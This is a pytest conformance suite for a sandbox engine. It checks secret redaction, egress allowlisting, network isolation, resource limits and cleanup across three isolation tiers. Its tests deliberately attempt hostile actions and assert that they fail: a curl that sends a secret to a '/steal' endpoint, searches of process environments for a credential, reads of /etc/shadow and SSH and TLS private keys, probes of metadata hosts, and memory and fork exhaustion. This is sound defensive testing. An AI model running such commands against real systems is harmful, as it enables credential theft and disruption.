"""Conformance: one test body proves the same behaviour on every isolation tier, end to end
through the real engine (runtime + egress gateway + guest agent).

Every test is parametrised over the tiers (`namespace`, `gvisor`, `microvm`). A tier whose probe
fails here is skipped with the probe's reason. The microvm tier boots a kernel under TCG here
(seconds per sandbox), so only a focused subset runs for it by default — boot+exec, files, one
secret round trip, timeout cleanup; its other cases carry the ``slow`` marker.

Where a tier legitimately behaves differently (and the product is still correct), the expected
difference is written out explicitly in the test (see ``TIER_DIFFERENCES``).

Network traffic goes only to loopback (the HTTPS echo upstreams, pinned with ResolvePin) and to
addresses inside namespaces the tests create (netfixtures.test_host).
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import socket
import threading
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import AbstractContextManager, asynccontextmanager, contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any, TypeVar

import netfixtures as nf
import pytest
import pytest_asyncio
from pydantic import SecretStr
from conftest import RUN_ROOT
from support import upstream
from support.counter import counted_in, counter, until_counted
from support.upstream import EchoServer

from sealbox._sys import cgroups, netns
from sealbox.egress.gateway import ResolvePin
from sealbox.egress.network import host_if_name
from sealbox.egress.secrets import SecretSpec
from sealbox.engine.config import EngineConfig
from sealbox.engine.engine import Engine, netns_name
from sealbox.engine.spec import ExecRequest, ExecResult, SandboxSpec, SandboxState
from sealbox.errors import NotFoundError, SandboxGone
from sealbox.runtimes import registry

pytestmark = [pytest.mark.privileged, pytest.mark.asyncio(loop_scope="module")]

T = TypeVar("T")
TIERS = ("namespace", "gvisor", "microvm")
PROBES = registry.probes()
# What the microvm tier runs by default (TCG boots take seconds); the rest is `slow` for it.
MICROVM_CORE = frozenset({"exec", "files", "secret_round_trip", "timeout_cleanup",
                          "pause_resume"})

API = "api.conf.test"
OTHER = "other.conf.test"
OFF_LIST = "offlist.conf.test"
REAL = "sk-live-CONFORMANCE-" + os.urandom(12).hex()

TIER_DIFFERENCES = {
    "kernel": "namespace shares the host kernel; gvisor reports its own (Sentry) kernel; "
              "microvm boots a guest kernel",
    "oom": "namespace and microvm kill only the command (sandbox usable after); gvisor may "
           "lose the whole sandbox, which then ends with an out-of-memory reason",
    "pids": "namespace and microvm refuse the fork (sandbox usable after); on gvisor the host "
            "pids cgroup (with headroom for runsc's own threads) runs out under runsc, which "
            "ends the whole sandbox with a process-limit reason",
}


def tiers(case: str) -> list[Any]:
    """pytest params for CASE over every tier: unusable tiers skipped with the probe's reason,
    microvm cases outside the focused subset marked slow."""
    params = []
    for tier in TIERS:
        marks: list[Any] = []
        probe = PROBES[tier]
        if not probe.ok:
            marks.append(pytest.mark.skip(reason=f"{tier} tier unavailable: {probe.detail}"))
        if tier == "microvm":
            marks.append(pytest.mark.timeout(300))
            if case not in MICROVM_CORE:
                marks.append(pytest.mark.slow)
        params.append(pytest.param(tier, marks=marks, id=tier))
    return params


# ----- fixtures ------------------------------------------------------------------------------


@dataclass
class World:
    engine: Engine
    api: EchoServer
    other: EchoServer
    offlist: EchoServer

    def reset(self) -> None:
        for server in (self.api, self.other, self.offlist):
            server.received.clear()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def world(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[World]:
    tmp = tmp_path_factory.mktemp("conformance")
    ca = upstream.TestCA.create(tmp)
    api = EchoServer(tls=ca.server_context(tmp, [API]))
    other = EchoServer(tls=ca.server_context(tmp, [OTHER]))
    # Pinned like the others, but never on any allowlist: if the gateway ignored the
    # allowlist, this server would see the request.
    offlist = EchoServer(tls=ca.server_context(tmp, [OFF_LIST]))
    pins = [ResolvePin.parse(f"{API}:443:127.0.0.1:{api.port}"),
            ResolvePin.parse(f"{OTHER}:443:127.0.0.1:{other.port}"),
            ResolvePin.parse(f"{OFF_LIST}:443:127.0.0.1:{offlist.port}")]
    engine = Engine(EngineConfig(data_dir=tmp / "data", resolve=pins,
                                 upstream_ca=[ca.cert_path]))
    await engine.start()
    try:
        yield World(engine, api, other, offlist)
    finally:
        await engine.close()
        for server in (api, other, offlist):
            server.close()


class Box:
    """One sandbox of one test: killed (and checked gone) when the test ends."""

    def __init__(self, engine: Engine, sid: str) -> None:
        self.engine = engine
        self.id = sid

    async def sh(self, script: str, **kw: Any) -> ExecResult:
        return await self.engine.run(self.id, ExecRequest(cmd=script, **kw))

    async def ok(self, script: str, **kw: Any) -> str:
        r = await self.sh(script, **kw)
        assert r.exit_code == 0, f"{script!r} exited {r.exit_code}: {r.stderr}"
        return r.stdout


@pytest_asyncio.fixture(loop_scope="module")
async def make(world: World) -> AsyncIterator[Any]:
    world.reset()
    made: list[str] = []

    async def create(tier: str, **spec: Any) -> Box:
        info = await world.engine.create(SandboxSpec(runtime=tier, **spec))  # type: ignore[arg-type]
        assert info.runtime == tier
        made.append(info.id)
        return Box(world.engine, info.id)

    yield create
    for sid in made:
        await world.engine.kill(sid)
    for sid in made:
        await assert_gone(sid)


def secret_spec() -> dict[str, Any]:
    return {"allow_net": [API, OTHER],
            "secrets": {"KEY": SecretSpec(value=SecretStr(REAL), hosts=[API])}}


# ----- invariant 5: nothing survives ---------------------------------------------------------


def processes_mentioning(sid: str) -> list[int]:
    found = []
    me = os.getpid()
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == me:
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes()
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if sid.encode() in cmdline and state != "Z":
            found.append(int(entry.name))
    return found


def leftovers_of(sid: str) -> dict[str, Any]:
    """What is left of sandbox SID on the host (pyroute2 calls: run off the event loop)."""
    return {
        "netns": netns.exists(netns_name(sid)),
        "cgroup": cgroups.Cgroup(sid).exists(),
        "run_dir": (RUN_ROOT / sid).exists(),
        "veth": host_if_name(sid) in netns.host_links("sbx"),
        "processes": processes_mentioning(sid),
    }


async def assert_gone(sid: str) -> None:
    leftovers = await asyncio.to_thread(leftovers_of, sid)
    assert not any(leftovers.values()), f"sandbox {sid} left behind: {leftovers}"


# ----- 1. exec -------------------------------------------------------------------------------


@pytest.mark.parametrize("tier", tiers("exec"))
async def test_exec(make: Any, tier: str) -> None:
    box = await make(tier)
    r = await box.sh("python3 -c 'print(6*7)'")
    assert (r.exit_code, r.stdout, r.stderr) == (0, "42\n", "")
    argv = await box.engine.run(box.id, ExecRequest(cmd=["python3", "-c", "print(6*7)"]))
    assert (argv.exit_code, argv.stdout) == (0, "42\n")
    r = await box.sh("echo to-out; echo to-err >&2; exit 7")
    assert (r.exit_code, r.stdout, r.stderr) == (7, "to-out\n", "to-err\n")
    r = await box.sh("python3 -c 'import sys; sys.exit(3)'")
    assert r.exit_code == 3
    r = await box.sh("no-such-command-here")
    assert r.exit_code == 127 and "not found" in r.stderr
    out = await box.ok("echo $SEALBOX_SANDBOX_ID; pwd; "
                       "python3 -c 'import os; print(os.getcwd())'")
    assert out.split() == [box.id, "/workspace", "/workspace"]
    r = await box.sh("cat", stdin="fed through stdin")
    assert r.stdout == "fed through stdin"
    r = await box.sh("echo $FOO", env={"FOO": "bar"})
    assert r.stdout == "bar\n"


# ----- 2. files ------------------------------------------------------------------------------


@pytest.mark.parametrize("tier", tiers("files"))
async def test_files(make: Any, tier: str) -> None:
    box = await make(tier)
    guest = box.engine.guest(box.id)
    data = os.urandom(1024 * 1024)
    await guest.write_file("/workspace/big.bin", data)
    assert await guest.read_bytes("/workspace/big.bin") == data
    # The command sees exactly what the file API wrote, and the other way round.
    out = await box.ok("sha256sum /workspace/big.bin; printf made-inside > /workspace/in.txt")
    assert out.split()[0] == hashlib.sha256(data).hexdigest()
    assert await guest.read_bytes("in.txt") == b"made-inside"  # relative = under /workspace
    await guest.write_file("/workspace/sub/dir/x.txt", b"nested")
    entries = {e.name: e for e in await guest.list_dir("/workspace")}
    assert {"big.bin", "in.txt", "sub"} <= set(entries)
    assert entries["big.bin"].size == len(data)
    assert (await guest.stat("/workspace/sub/dir/x.txt")).size == 6
    with pytest.raises(NotFoundError):
        await guest.read_bytes("/workspace/does-not-exist")
    with pytest.raises(NotFoundError):
        await guest.list_dir("/workspace/no-such-dir")
    with pytest.raises(NotFoundError):
        await guest.stat("/nope/nope")
    # The channel survives errors.
    assert await guest.read_bytes("/workspace/sub/dir/x.txt") == b"nested"


# ----- 3. secrets (invariants 1 and 2) -------------------------------------------------------


def headers_of(server: EchoServer) -> list[dict[str, str]]:
    return [{k.lower(): v for k, v in r.headers.items()} for r in server.received]


def response_headers(curl_out: str) -> dict[str, str]:
    """The response headers from `curl -D -` output (lower-cased names)."""
    head = curl_out.split("\r\n\r\n", 1)[0].split("\r\n")[1:]
    return {k.strip().lower(): v.strip() for k, _, v in (line.partition(":") for line in head)}


def placeholder_of(world: World, sid: str) -> str:
    placeholder = world.engine.get(sid).secrets["KEY"].placeholder
    assert placeholder is not None and placeholder.startswith("sealbox-secret-")
    assert REAL not in placeholder
    return placeholder


@pytest.mark.parametrize("tier", tiers("secret_round_trip"))
async def test_secret_round_trip(world: World, make: Any, tier: str) -> None:
    box = await make(tier, **secret_spec())
    placeholder = placeholder_of(world, box.id)
    assert (await box.ok("echo $KEY")).strip() == placeholder
    r = await box.sh(f'curl -sS -m 20 -D - https://{API}/v1/models '
                     '-H "Authorization: Bearer $KEY"')
    assert r.exit_code == 0, r.stderr
    # The upstream got the real value...
    assert [h.get("authorization") for h in headers_of(world.api)] == [f"Bearer {REAL}"]
    # ...and echoed it back in a header and the body, which the sandbox sees redacted.
    assert r.stdout.startswith("HTTP/2 200")  # curl negotiates h2 through the gateway
    assert REAL not in r.stdout + r.stderr
    assert response_headers(r.stdout)["x-echo-authorization"] == f"Bearer {placeholder}"
    assert r.stdout.count(placeholder) >= 2


@pytest.mark.parametrize("tier", tiers("secret_never_inside"))
async def test_secret_value_never_inside(world: World, make: Any, tier: str) -> None:
    box = await make(tier, **secret_spec())
    placeholder = placeholder_of(world, box.id)
    # The search never carries the value itself into the sandbox: it gets it reversed.
    finder = (
        "import os, sys\n"
        "needle = sys.argv[1][::-1].encode()\n"
        "hits, seen = [], 0\n"
        "def check(path):\n"
        "    global seen\n"
        "    try:\n"
        "        with open(path, 'rb') as f:\n"
        "            data = f.read(8 * 1024 * 1024)\n"
        "    except OSError:\n"
        "        return\n"
        "    seen += 1\n"
        "    if needle in data:\n"
        "        hits.append(path)\n"
        "for p in ('/proc/self/environ', '/proc/1/environ', '/proc/self/cmdline'):\n"
        "    check(p)\n"
        "for root in ('/etc', '/run', '/workspace', '/tmp', '/root', '/home', '/.sealbox'):\n"
        "    for d, dirs, files in os.walk(root):\n"
        "        for name in files:\n"
        "            check(os.path.join(d, name))\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit():\n"
        "        check(f'/proc/{pid}/environ')\n"
        "if needle in repr(dict(os.environ)).encode():\n"
        "    hits.append('os.environ')\n"
        "print('files-read', seen)\n"
        "print('hits', hits)\n"
    )
    await box.engine.guest(box.id).write_file("/tmp/finder.py", finder.encode())
    out = await box.ok(f"python3 /tmp/finder.py {REAL[::-1]}")
    assert "hits []" in out, out
    assert int(out.split("files-read ")[1].split()[0]) > 20, out  # it really looked
    out = await box.ok("env; cat /proc/self/environ | tr '\\0' '\\n'; "
                       "cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n'; "
                       "ls -la /run /etc/ssl/certs | head -50; cat /etc/resolv.conf; "
                       "dmesg 2>&1 | tail -20")
    assert REAL not in out
    assert f"KEY={placeholder}" in out
    # Error messages the sandbox can provoke do not leak it either.
    r = await box.sh(f'curl -sS -m 20 https://{API}/err -H "Authorization: Bearer $KEY" '
                     f'-H "X-Extra: $KEY$KEY" -d "body=$KEY"')
    assert r.exit_code == 0, r.stderr
    assert REAL not in r.stdout + r.stderr
    assert REAL not in json.dumps(world.engine.logs(box.id))


@pytest.mark.parametrize("tier", tiers("secret_exfiltration"))
async def test_secret_exfiltration_blocked(world: World, make: Any, tier: str) -> None:
    box = await make(tier, **secret_spec())
    # Another allowed host, not bound to the secret: 403 from the gateway, nothing sent.
    r = await box.sh(f'curl -sS -m 20 -D - https://{OTHER}/steal -H "X-Key: $KEY"')
    assert r.exit_code == 0, r.stderr
    assert r.stdout.startswith("HTTP/2 403"), r.stdout
    assert "x-sealbox-blocked" in r.stdout.lower()
    assert world.other.received == []
    kinds = [e["kind"] for e in world.engine.egress_log(box.id)]
    assert "secret_exfil_blocked" in kinds
    # The same host without the placeholder is fine: the block was about the secret.
    r = await box.sh(f"curl -sS -m 20 -o /dev/null -w '%{{http_code}}' https://{OTHER}/ok")
    assert r.stdout == "200" and len(world.other.received) == 1
    # A host off the allowlist (pinned by the operator, so the gateway could reach it):
    # its name does not resolve, and forcing the address does not get through either.
    r = await box.sh(f'curl -sS -m 20 https://{OFF_LIST}/ -H "X-Key: $KEY"')
    assert r.exit_code == 6, (r.exit_code, r.stdout, r.stderr)  # could not resolve host
    gateway_ip = (await box.ok(DEFAULT_GATEWAY)).strip()
    r = await box.sh(f'curl -sS -m 20 -D - --resolve {OFF_LIST}:443:{gateway_ip} '
                     f'https://{OFF_LIST}/ -H "X-Key: $KEY"')
    assert r.exit_code != 0 or r.stdout.startswith("HTTP/2 403"), r.stdout
    assert world.offlist.received == []
    assert REAL not in r.stdout + r.stderr


@pytest.mark.parametrize("tier", tiers("secret_clients"))
async def test_python_and_node_clients_trust_the_gateway(world: World, make: Any,
                                                         tier: str) -> None:
    box = await make(tier, **secret_spec())
    placeholder = placeholder_of(world, box.id)
    py = ("import os, urllib.request\n"
          f"req = urllib.request.Request('https://{API}/py', "
          "headers={'Authorization': 'Bearer ' + os.environ['KEY']})\n"
          "with urllib.request.urlopen(req, timeout=20) as r:\n"
          "    print(r.status, r.headers['X-Echo-Authorization'])\n")
    r = await box.sh("python3 -", stdin=py)
    assert r.exit_code == 0, r.stderr
    assert r.stdout.split() == ["200", "Bearer", placeholder]
    node = ("const https = require('https');\n"
            f"https.get('https://{API}/node', "
            "{headers: {Authorization: 'Bearer ' + process.env.KEY}}, r => {\n"
            "  console.log(r.statusCode, r.headers['x-echo-authorization']);\n"
            "  r.resume();\n"
            "}).on('error', e => { console.error(e.message); process.exit(1); });\n")
    await box.engine.guest(box.id).write_file("/tmp/c.js", node.encode())
    r = await box.sh("test -x /usr/bin/node || { echo no-node; exit 0; }; node /tmp/c.js")
    if r.stdout.strip() == "no-node":
        pytest.fail(f"{tier}: /usr/bin/node is not available inside the sandbox")
    assert r.exit_code == 0, r.stderr
    assert r.stdout.split() == ["200", "Bearer", placeholder]
    assert [(rec.path, h.get("authorization")) for rec, h in
            zip(world.api.received, headers_of(world.api), strict=True)] == [
        ("/py", f"Bearer {REAL}"), ("/node", f"Bearer {REAL}")]


@asynccontextmanager
async def in_thread(cm: AbstractContextManager[T]) -> AsyncIterator[T]:
    """Enter and leave a sync context manager off the event loop (netfixtures uses pyroute2,
    which runs its own loop)."""
    value = await asyncio.to_thread(cm.__enter__)
    try:
        yield value
    finally:
        await asyncio.to_thread(cm.__exit__, None, None, None)


# ----- 4. network isolation (invariant 3) ----------------------------------------------------

DEFAULT_GATEWAY = (
    "python3 -c \"\n"
    "import socket, struct\n"
    "for line in open('/proc/net/route').read().splitlines()[1:]:\n"
    "    f = line.split()\n"
    "    if f[1] == '00000000':\n"
    "        print(socket.inet_ntoa(struct.pack('<I', int(f[2], 16)))); break\n"
    "\""
)
OWN_ADDRESS = ("python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM);"
               " s.connect(('192.0.2.1', 9)); print(s.getsockname()[0])\"")

# TCP connect+send, UDP datagram, ICMP echo (datagram or raw socket, whichever the sandbox may
# open): prints one line per attempt saying whether anything answered.
PROBE = r"""
import socket, struct, sys
addr, port = sys.argv[1], int(sys.argv[2])
def tcp():
    s = socket.create_connection((addr, port), timeout=4)
    s.sendall(b"GET / HTTP/1.0\r\nHost: x\r\n\r\n")
    s.settimeout(4)
    return s.recv(100)
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(b"hello", (addr, port))
    return s.recv(100)
def icmp():
    pkt = struct.pack("!BBHHH", 8, 0, 0, 0x5B0C, 1) + b"sealbox-ping"
    words = struct.unpack("!%dH" % (len(pkt) // 2), pkt)
    c = sum(words); c = (c >> 16) + (c & 0xFFFF); c = ~(c + (c >> 16)) & 0xFFFF
    pkt = pkt[:2] + struct.pack("!H", c) + pkt[4:]
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        except OSError:
            continue
        s.settimeout(3)
        s.sendto(pkt, (addr, 0))
        return s.recv(100)
    raise PermissionError("no ICMP socket")
for name, fn in (("tcp", tcp), ("udp", udp), ("icmp", icmp)):
    try:
        got = fn()
        print(name, "answered", got[:40])
    except Exception as exc:
        print(name, "failed", type(exc).__name__)
"""


async def probe_from(box: Box, address: str, port: int) -> dict[str, str]:
    r = await box.sh(f"python3 - {address} {port}", stdin=PROBE, timeout=60)
    assert r.exit_code == 0, r.stderr
    return {line.split()[0]: line for line in r.stdout.splitlines()}


@pytest.mark.parametrize("tier", tiers("network_isolation"))
async def test_network_isolation(make: Any, tier: str) -> None:
    async with in_thread(nf.test_host(nf.PUBLIC)) as public, \
            in_thread(nf.test_host(nf.PRIVATE)) as private, \
            in_thread(nf.test_host(nf.METADATA)) as metadata:
        closed = await make(tier)  # nothing allowed
        # Anything public, plus the (reserved-range) test "public" host named explicitly.
        open_ = await make(tier, allow_net=["*", str(nf.PUBLIC)])
        # Control: when allowed, the gateway really reaches a test host, so "received
        # nothing" below means something.
        r = await open_.sh(f"curl -sS -m 20 http://{nf.PUBLIC}/control")
        assert r.stdout == "test-host", (r.stdout, r.stderr)
        assert any("GET /control" in e.get("data", "") for e in public.received())
        public_seen = len(public.received())
        public_packets = public.packets()
        hosts = [(closed, public), (closed, private), (closed, metadata),
                 (open_, private), (open_, metadata)]
        for box, host in hosts:
            attempts = await probe_from(box, str(host.address), host.port)
            for proto in ("tcp", "udp", "icmp"):
                assert "failed" in attempts[proto] or "test-host" not in attempts[proto], \
                    (host.address, attempts)
            assert "failed" in attempts["udp"] and "failed" in attempts["icmp"], attempts
            r = await box.sh(f"curl -sS -m 10 -o /dev/null -w '%{{http_code}}' "
                             f"http://{host.address}/")
            assert r.stdout in ("000", "403", "502"), (host.address, r.stdout, r.stderr)
        assert len(public.received()) == public_seen
        assert public.packets() == public_packets
        for host in (private, metadata):
            assert host.received() == [], host.received()
            assert host.packets() == 0
        # DNS for names off the allowlist is answered locally: NXDOMAIN. (With "*" every
        # name is on the allowlist: the stub answers with a gateway-side address.)
        for box in (closed,):
            r = await box.sh("getent hosts not-allowed.conf.test; echo rc=$?; python3 -c "
                             "\"import socket; socket.gethostbyname('not-allowed.conf.test')\"")
            assert "rc=2" in r.stdout and r.exit_code != 0 and "gaierror" in r.stderr, r


@pytest.mark.parametrize("tier", tiers("sandbox_to_sandbox"))
async def test_sandboxes_cannot_reach_each_other(make: Any, tier: str) -> None:
    a = await make(tier, allow_net=["*"])
    b = await make(tier, allow_net=["*"])
    listener = ("import socket\n"
                "s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
                "s.bind(('0.0.0.0', 8080)); s.listen(8)\n"
                "while True:\n"
                "    c, peer = s.accept()\n"
                "    c.recv(1000)\n"
                "    open('/tmp/accepted', 'a').write(peer[0] + '\\n')\n"
                "    c.sendall(b'HTTP/1.0 200 OK\\r\\n\\r\\nfrom-a'); c.close()\n")
    await a.engine.guest(a.id).write_file("/tmp/listen.py", listener.encode())
    await a.engine.run(a.id, ExecRequest(cmd="python3 /tmp/listen.py", background=True))
    # Control: A's own server answers inside A.
    out = await a.ok("for i in $(seq 50); do curl -s -m 2 http://127.0.0.1:8080/ && break; "
                     "sleep 0.2; done")
    assert out == "from-a"
    a_ip = (await a.ok(OWN_ADDRESS)).strip()
    b_ip = (await b.ok(OWN_ADDRESS)).strip()
    assert a_ip != b_ip
    r = await b.sh(f"curl -sS -m 10 -o /dev/null -w '%{{http_code}}' http://{a_ip}:8080/")
    assert r.stdout in ("000", "403", "502"), (r.stdout, r.stderr)
    attempts = await probe_from(b, a_ip, 8080)
    assert "from-a" not in json.dumps(attempts), attempts
    accepted = await a.engine.guest(a.id).read_bytes("/tmp/accepted")
    assert accepted.decode().split() == ["127.0.0.1"], accepted




@contextmanager
def host_listener() -> Iterator[tuple[int, list[str]]]:
    """A TCP+UDP service on 0.0.0.0:PORT in the host namespace that records who came."""
    got: list[str] = []
    tcp = socket.socket()
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    tcp.bind(("0.0.0.0", 0))
    port = tcp.getsockname()[1]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("0.0.0.0", port))
    tcp.listen(8)
    tcp.settimeout(0.2)
    udp.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, peer = tcp.accept()
                got.append(f"tcp {peer[0]}")
                conn.sendall(b"HTTP/1.0 200 OK\r\n\r\nhost-service")
                conn.close()
            except OSError:
                pass
            try:
                _, peer = udp.recvfrom(100)
                got.append(f"udp {peer[0]}")
                udp.sendto(b"host-service", peer)
            except OSError:
                pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield port, got
    finally:
        stop.set()
        thread.join()
        tcp.close()
        udp.close()


@pytest.mark.parametrize("tier", tiers("host_services"))
async def test_host_services_unreachable(make: Any, tier: str) -> None:
    with host_listener() as (port, got):
        for allow in ([], ["*"]):
            box = await make(tier, allow_net=allow)
            gateway_ip = (await box.ok(DEFAULT_GATEWAY)).strip()
            assert gateway_ip, "no default route inside the sandbox"
            for address in (gateway_ip, "127.0.0.1"):
                attempts = await probe_from(box, address, port)
                assert "host-service" not in json.dumps(attempts), (address, attempts)
                r = await box.sh(f"curl -sS -m 10 http://{address}:{port}/")
                assert "host-service" not in r.stdout, (address, r.stdout)
        # Control: the service is there for host processes.
        with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
            assert s.recv(100).endswith(b"host-service")
        assert got == ["tcp 127.0.0.1"], got


# ----- 5. limits (invariant 4) ---------------------------------------------------------------


@pytest.mark.parametrize("tier", tiers("memory_limit"))
async def test_memory_limit(world: World, make: Any, tier: str) -> None:
    box = await make(tier, memory="128MiB")
    try:
        r = await box.sh("python3 -c 'x = bytearray(600*1024*1024); print(len(x))'")
    except SandboxGone as exc:
        # gVisor: the OOM may take the whole sandbox (its Sentry is in the cgroup). Correct as
        # long as the sandbox ends and says why.
        assert tier == "gvisor", f"{tier}: the OOM took the whole sandbox: {exc}"
        info = await world.engine.wait(box.id)
        assert info.state == SandboxState.failed, info
        assert info.end_reason is not None and "out of memory" in info.end_reason, info
        await assert_gone(box.id)
        return
    assert r.exit_code != 0 and "629145600" not in r.stdout
    if tier == "microvm" and r.limit is None:
        # The guest kernel has only the VM's 128 MiB: it refuses the allocation outright
        # (MemoryError, nothing killed), so no limit killed the command.
        assert "MemoryError" in r.stderr, r
    else:
        assert r.limit is not None and "out of memory" in r.limit and "128 MiB" in r.limit, r
    again = await box.sh("echo still-alive")
    assert again.stdout == "still-alive\n"


@pytest.mark.parametrize("tier", tiers("pids_limit"))
async def test_pids_limit(make: Any, tier: str) -> None:
    box = await make(tier, pids=40)
    try:
        r = await box.sh("for i in $(seq 100); do sleep 5 & done; wait", timeout=30)
    except SandboxGone as exc:
        # gVisor: running out of host pids takes down the Sentry, i.e. the whole sandbox.
        # Correct (it harms only that sandbox) as long as it ends and says why.
        assert tier == "gvisor", f"{tier}: the pids limit took the whole sandbox: {exc}"
        info = await box.engine.wait(box.id)
        assert info.end_reason is not None and "process limit" in info.end_reason, info
        await assert_gone(box.id)
        return
    assert r.limit is not None and "process limit" in r.limit, r
    again = await box.sh("echo still-alive")
    assert again.stdout == "still-alive\n"


@pytest.mark.parametrize("tier", tiers("timeout_cleanup"))
async def test_timeout_ends_and_cleans_up(world: World, make: Any, tier: str) -> None:
    box = await make(tier, timeout=3)
    await box.ok("sleep 1000 >/dev/null 2>&1 & echo started")
    with pytest.raises(SandboxGone) as gone:
        await box.sh("sleep 60")
    assert "timeout" in str(gone.value)
    info = await world.engine.wait(box.id)
    assert info.state == SandboxState.killed
    assert info.end_reason is not None and "timeout" in info.end_reason, info
    await assert_gone(box.id)


# ----- 5b. pause and resume ---------------------------------------------------------------------

def paused_counter(world: World, sid: str) -> int:
    """The counter as pause saved it (every tier saves /workspace; the tar is taken just
    before the processes stop, so a few ticks may follow)."""
    return counted_in(world.engine.paused.dir(sid) / "workspace.tar")


@pytest.mark.parametrize("tier", tiers("pause_resume"))
async def test_pause_resume_keeps_processes_and_secrets(world: World, make: Any,
                                                        tier: str) -> None:
    box = await make(tier, **secret_spec())
    placeholder = placeholder_of(world, box.id)
    await box.sh(counter(), background=True)
    await box.ok(until_counted())
    address = await box.ok("ip -4 -o addr show eth0 | awk '{print $4}'")
    info = await world.engine.pause(box.id)
    assert info.state == SandboxState.paused
    at_pause = paused_counter(world, box.id)
    if tier == "microvm":
        # Saved to disk whole: while paused nothing of it is left on the host, and another
        # sandbox takes the address block it had.
        assert world.engine.paused.has_checkpoint(box.id)
        await assert_gone(box.id)
        other = await make("namespace")
        assert await other.ok("ip -4 -o addr show eth0 | awk '{print $4}'") == address
    else:
        assert not world.engine.paused.has_checkpoint(box.id)
    await asyncio.sleep(3)  # thirty ticks, were it running
    resumed = await world.engine.resume(box.id)
    assert resumed.resumed_processes is True and resumed.resume_note is None
    # The same shell, with its variable: it continues from where it was, not from 1.
    after = int(await box.ok("cat /workspace/c"))
    assert at_pause <= after < at_pause + 40, (at_pause, after)
    later = await box.ok(until_counted(after + 1) + "; date +%s; "
                         "ip -4 -o addr show eth0 | awk '{print $4}'; echo $KEY")
    clock, new_address, key = later.split()
    assert abs(int(clock) - time.time()) < 5  # a restored guest's clock is set to now
    assert key == placeholder == placeholder_of(world, box.id)
    if tier == "microvm":
        assert new_address != address  # it took its new network's address
    # Egress and the secret work as before the pause.
    r = await box.sh(f'curl -sS -m 20 https://{API}/v1/models -H "Authorization: Bearer $KEY"')
    assert r.exit_code == 0, r.stderr
    assert [h.get("authorization") for h in headers_of(world.api)] == [f"Bearer {REAL}"]
    assert REAL not in r.stdout


# ----- 6. cleanup (invariant 5) --------------------------------------------------------------


@pytest.mark.parametrize("tier", tiers("kill_cleanup"))
async def test_kill_leaves_nothing(world: World, make: Any, tier: str) -> None:
    box = await make(tier, **secret_spec())
    await box.ok("sleep 1000 >/dev/null 2>&1 & sleep 1000 >/dev/null 2>&1 & echo started")
    present = await asyncio.to_thread(leftovers_of, box.id)
    assert present["netns"] and present["cgroup"] and present["run_dir"] and present["veth"]
    assert present["processes"], "the check for processes would not see them"
    info = await world.engine.kill(box.id)
    assert info.state == SandboxState.killed
    await assert_gone(box.id)
    with pytest.raises(SandboxGone):
        await box.sh("true")


# ----- 7. the kernel the sandbox sees -------------------------------------------------------


@pytest.mark.parametrize("tier", tiers("kernel_identity"))
async def test_kernel_identity(make: Any, tier: str) -> None:
    box = await make(tier)
    out = await box.ok("uname -r; echo ---; cat /proc/version; echo ---; dmesg 2>&1 | head -5")
    release, version, dmesg = (part.strip() for part in out.split("---"))
    host = os.uname().release
    if tier == "namespace":
        assert release == host  # shares the host kernel (isolation is namespaces + seccomp)
    elif tier == "gvisor":
        assert release != host and host not in version
        assert "gvisor" in dmesg.lower(), dmesg
    else:
        assert release != host and host not in version
        assert release in version


@pytest.mark.parametrize("tier", tiers("host_credentials"))
async def test_host_credential_files_are_hidden(make: Any, tier: str) -> None:
    """The host's password hashes, SSH host keys and TLS private keys: not one byte inside,
    and not even the names of the key files (the namespace and gvisor tiers show the host's
    /etc read-only, with these masked)."""
    box = await make(tier)
    out = await box.ok("for f in /etc/shadow /etc/gshadow /etc/ssh/* /etc/ssl/private/*; do "
                       "[ -e \"$f\" ] && cat \"$f\" 2>/dev/null; done | wc -c; "
                       "echo ---; ls -A /etc/ssh /etc/ssl/private 2>/dev/null; true")
    size, listing = (part.strip() for part in out.split("---"))
    assert size == "0"
    assert "key" not in listing, listing
    # Not vacuous: the host's own shadow file has content (read here as root).
    assert Path("/etc/shadow").stat().st_size > 0
